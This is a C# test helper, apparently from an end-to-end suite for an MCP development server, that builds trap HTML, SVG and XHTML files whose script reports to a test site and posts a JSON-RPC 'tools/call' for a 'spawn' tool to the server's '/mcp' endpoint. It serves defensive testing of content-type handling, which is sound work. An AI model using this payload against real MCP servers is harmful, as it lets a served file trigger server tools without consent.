using System.Text;

namespace McpDevBench.EndToEndTests.Browsers;

/// <summary>Files that report to a site when a browser runs them, and then call the server that they came from.</summary>
internal static class Traps
{
    private const string Pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    /// <summary>By name, with the type that a careless server would send.</summary>
    public static Dictionary<string, (string Type, byte[] Content)> All(string site)
    {
        var script = $$"""
            const via = new URLSearchParams(location.search).get('via');
            const what = 'ran via ' + via + ' as ' + new URLSearchParams(location.search).get('path');
            for (const other of [window.opener, window.parent]) if (other && other !== window) other.postMessage(what, '*');
            fetch('{{site}}/seen?what=' + encodeURIComponent(what), { method: 'POST', mode: 'no-cors' });
            const call = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'spawn', arguments: {} } };
            fetch('/mcp', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(call) });
            """;
        var html = $"<!doctype html><body><script>{script}</script></body>";
        var svg = $"""<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{script}]]></script></svg>""";
        var xhtml = $"""<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[{script}]]></script></body></html>""";
        return new Dictionary<string, (string, byte[])>
        {
            ["x.html"] = ("text/html", Encoding.UTF8.GetBytes(html)),
            ["x.svg"] = ("image/svg+xml", Encoding.UTF8.GetBytes(svg)),
            ["x.xhtml"] = ("application/xhtml+xml", Encoding.UTF8.GetBytes(xhtml)),
            ["x.txt"] = ("text/plain", Encoding.UTF8.GetBytes(html)),
            ["noext"] = ("", Encoding.UTF8.GetBytes(html)),
            ["x.js"] = ("text/javascript", "window.scriptRan = true"u8.ToArray()),
            ["x.mjs"] = ("text/javascript", "export default 1"u8.ToArray()),
            ["x.css"] = ("text/css", "body { color: red }"u8.ToArray()),
            ["x.png"] = ("image/png", Convert.FromBase64String(Pixel)),
        };
    }
}
